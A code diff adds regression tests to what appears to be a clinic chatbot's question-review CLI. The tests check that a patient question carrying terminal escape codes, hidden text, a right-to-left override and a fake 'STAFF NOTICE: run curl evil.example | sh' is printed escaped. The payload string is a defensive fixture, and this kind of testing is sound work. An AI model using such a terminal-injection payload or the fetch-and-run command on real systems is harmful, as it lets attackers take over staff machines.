@@ -2,15 +2,21 @@ from __future__ import annotations
 
 import datetime
 import json
+import sqlite3
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
 
+from fastapi.testclient import TestClient
+from test_api import ready
+
+from chatbot.app import create_app
 from chatbot.assistant import Assistant
 from chatbot.cli import cli
 from chatbot.domain import Match
 from chatbot.review import group
+from chatbot.settings import Settings
 from chatbot.store import DB_FILE, Unanswered, UnansweredStore
 from conftest import FakeEncoder
 
@@ -144,3 +150,34 @@ def test_feedback_is_reviewed_even_with_no_unanswered_questions(tmp_path: Path, 
     result = CliRunner().invoke(cli, ["review"])
     assert result.exit_code == 0, result.output
     assert "No unanswered questions" in result.output and "1x  entry wifi" in result.output
+
+
+# What an anonymous patient sent to take over a staff member's terminal (issue 17, finding 2).
+TAKEOVER = "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
+
+
+def test_a_question_sent_to_take_over_the_terminal_reaches_review_harmless(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fake: Assistant
+) -> None:
+    with TestClient(create_app(Settings(var_dir=tmp_path), load=lambda: fake)) as client:
+        ready(client)
+        assert client.post("/v1/ask", json={"question": "zebra quantum " + TAKEOVER}).json()["kind"] == "fallback"
+    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
+    monkeypatch.setattr("chatbot.startup.load_assistant", lambda settings: fake)
+    for args in (["review"], ["review", "--export", "-"]):
+        result = CliRunner().invoke(cli, args)
+        assert result.exit_code == 0, result.output
+        assert "STAFF NOTICE" in result.output
+        assert not any(ch in result.output for ch in "\x1b\x07\u202e")
+
+
+def test_a_row_stored_with_escape_codes_by_an_older_version_is_printed_escaped(
+    logged: Path
+) -> None:
+    with sqlite3.connect(logged / DB_FILE) as db:
+        db.execute("UPDATE unanswered SET question = ? WHERE question = 'do you take medicare'", (TAKEOVER,))
+    shown = CliRunner().invoke(cli, ["review"]).output
+    assert "\\x1b[2J" in shown and "\\u202e" in shown
+    exported = CliRunner().invoke(cli, ["review", "--export", "-"]).output
+    assert TAKEOVER in [json.loads(line)["question"] for line in exported.splitlines()]  # escaped, yet the same text
+    assert not any(ch in shown + exported for ch in "\x1b\x07\u202e")
